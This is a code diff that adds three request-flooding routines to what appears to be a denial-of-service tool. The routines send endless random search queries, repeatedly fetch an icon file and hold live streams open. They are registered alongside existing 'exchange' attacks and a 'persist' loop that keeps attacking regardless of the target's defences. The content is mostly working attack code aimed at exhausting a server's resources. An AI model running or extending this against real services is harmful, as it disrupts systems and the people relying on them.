@@ -191,6 +191,37 @@ EXCHANGE_ATTACKS: tuple[Attack, ...] = (
 )
 
 
+async def searches_without_end(target: Target) -> None:
+    """Search for another name each time."""
+    async with target.connected() as (reader, writer):
+        while True:
+            target.count("search")
+            writer.write(request(f"/api/v1/search?q={secrets.token_hex(2)}", method="GET"))
+            await read_answer(reader)
+
+
+async def icons_without_end(target: Target) -> None:
+    """Ask for a file that costs nothing, as often as the line carries it."""
+    async with target.connected() as (reader, writer):
+        while True:
+            target.count("icon")
+            writer.write(request("/icon.svg", method="GET"))
+            await read_answer(reader)
+
+
+async def live_streams(target: Target) -> None:
+    """Follow the board, and take what comes."""
+    async with target.connected() as (reader, writer):
+        target.count("live")
+        writer.write(request("/api/v1/live", method="GET"))
+        while await reader.read(4_096):
+            pass
+
+
+PUBLIC_ATTACKS: tuple[Attack, ...] = (searches_without_end, icons_without_end, live_streams)
+ATTACKS: dict[str, Attack] = {attack.__name__: attack for attack in (*EXCHANGE_ATTACKS, *PUBLIC_ATTACKS)}
+
+
 async def persist(attack: Attack, target: Target) -> None:
     """Carry out the attack for ever, whatever the door does about it."""
     while True:
